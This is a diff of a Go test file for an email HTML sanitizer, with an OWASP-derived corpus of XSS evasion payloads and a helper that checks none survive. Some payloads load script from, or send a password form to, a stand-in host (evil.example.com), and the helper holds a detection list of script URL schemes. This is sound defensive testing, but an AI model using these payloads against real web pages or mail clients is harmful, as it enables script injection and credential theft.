@@ -1,13 +1,15 @@
 package email
 
 import (
+	"strings"
 	"testing"
 
+	"github.com/PuerkitoBio/goquery"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 )
 
-func TestAddTargetBlank(t *testing.T) {
+func TestSanitizeHTML(t *testing.T) {
 	tests := []struct {
 		in  string
 		out string
@@ -16,11 +18,116 @@ func TestAddTargetBlank(t *testing.T) {
 			in:  `<html><body><a href="https://example.com">Hello there</a></body></html>`,
 			out: `<html><head></head><body><a href="https://example.com" target="_blank" rel="noopener noreferrer">Hello there</a></body></html>`,
 		},
+		{
+			in:  `<html><head><link rel="stylesheet" href="https://fonts.example.com/css"><style>p { color: red; }</style></head><body><p style="font-weight: bold">Hi</p><img src="data:image/png;base64,iVBORw0KGgo=" alt="logo"></body></html>`,
+			out: `<html><head><link rel="stylesheet" href="https://fonts.example.com/css"/><style>p { color: red; }</style></head><body><p style="font-weight: bold">Hi</p><img src="data:image/png;base64,iVBORw0KGgo=" alt="logo"/></body></html>`,
+		},
+		{
+			in:  `<form action="https://example.com/login"><p>Your code is 1234</p><input type="password" name="password"><button>Log in</button></form>`,
+			out: `<html><head></head><body><p>Your code is 1234</p></body></html>`,
+		},
+		{
+			in:  `<p onclick="alert(1)">Hello <a href="javascript:alert(1)">there</a></p><script>alert(1)</script>`,
+			out: `<html><head></head><body><p>Hello <a target="_blank" rel="noopener noreferrer">there</a></p></body></html>`,
+		},
 	}
 
 	for _, test := range tests {
-		out, err := AddTargetBlank(test.in)
+		out, err := SanitizeHTML(test.in)
 		require.NoError(t, err)
 		assert.Equal(t, test.out, out)
 	}
 }
+
+// xssCorpus is a collection of ways to run script from html, mostly from the OWASP XSS filter evasion cheat sheet
+var xssCorpus = []string{
+	`<script>alert(1)</script>`,
+	`<SCRIPT SRC=https://evil.example.com/xss.js></SCRIPT>`,
+	`<<SCRIPT>alert("XSS");//<</SCRIPT>`,
+	`<img """><script>alert("XSS")</script>">`,
+	`<img src=x onerror=alert(1)>`,
+	`<IMG SRC="javascript:alert('XSS');">`,
+	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
+	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
+	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
+	"<IMG SRC=\"jav\tascript:alert('XSS');\">",
+	`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
+	`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
+	`<img srcset="x.png 1x, javascript:alert(1) 2x">`,
+	`<a href="javascript:alert(1)">x</a>`,
+	`<a href="  JAVASCRIPT:alert(1)">x</a>`,
+	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
+	`<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`,
+	`<a href="vbscript:msgbox(1)">x</a>`,
+	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
+	`<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
+	`<body onload=alert(1)>`,
+	`<div onmouseover="alert(1)">hover</div>`,
+	`<details open ontoggle=alert(1)>`,
+	`<video><source onerror=alert(1)></video>`,
+	`<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
+	`<svg onload=alert(1)>`,
+	`<svg><script>alert(1)</script></svg>`,
+	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
+	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
+	`<iframe src="javascript:alert(1)"></iframe>`,
+	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
+	`<frameset><frame src="javascript:alert(1)"></frameset>`,
+	`<object data="javascript:alert(1)"></object>`,
+	`<embed src="javascript:alert(1)">`,
+	`<form action="https://evil.example.com/steal"><input name="password" type="password"><button formaction="javascript:alert(1)">Log in</button></form>`,
+	`<isindex action="javascript:alert(1)" type=image>`,
+	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
+	`<base href="javascript:alert(1)//">`,
+	`<link rel="import" href="https://evil.example.com/xss.html">`,
+	`<div style="background:url(javascript:alert(1))">x</div>`,
+	`<div style="width: expression(alert(1))">x</div>`,
+	`<div style="width: ex\pression(alert(1))">x</div>`,
+	`<div style="-moz-binding: url(https://evil.example.com/xss.xml#xss)">x</div>`,
+	`<style>body{background:url("javascript:alert(1)")}</style>`,
+	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
+	`<template><img src=x onerror=alert(1)></template>`,
+}
+
+func TestSanitizeHTML_XSS(t *testing.T) {
+	for _, in := range xssCorpus {
+		out, err := SanitizeHTML(in)
+		require.NoError(t, err, in)
+
+		assertNoScript(t, in, out)
+
+		// sanitizing is stable so the browser parses the output the same way we did
+		again, err := SanitizeHTML(out)
+		require.NoError(t, err, in)
+		assert.Equal(t, out, again, in)
+	}
+}
+
+// assertNoScript parses out as a browser would and checks nothing in it can run script or submit a form
+func assertNoScript(t *testing.T, in string, out string) {
+	doc, err := goquery.NewDocumentFromReader(strings.NewReader(out))
+	require.NoError(t, err, in)
+
+	assert.Zero(t, doc.Find(removedElements+", form").Length(), "%v: dangerous element left in %v", in, out)
+
+	doc.Find("*").Each(func(i int, s *goquery.Selection) {
+		for _, attr := range s.Nodes[0].Attr {
+			key := strings.ToLower(attr.Key)
+			assert.False(t, strings.HasPrefix(key, "on"), "%v: event handler left in %v", in, out)
+			assert.NotEqual(t, "srcdoc", key, "%v: srcdoc left in %v", in, out)
+
+			val := strings.ToLower(attr.Val)
+			for _, scheme := range []string{"javascript:", "vbscript:", "data:text"} {
+				assert.NotContains(t, strings.Join(strings.Fields(val), ""), scheme, "%v: %v url left in %v", in, scheme, out)
+			}
+
+			if key == "style" {
+				assert.NotContains(t, val, "expression", "%v: css expression left in %v", in, out)
+			}
+		}
+	})
+
+	doc.Find("style").Each(func(i int, s *goquery.Selection) {
+		assert.NotContains(t, strings.ToLower(s.Text()), "javascript:", "%v: javascript url left in %v", in, out)
+	})
+}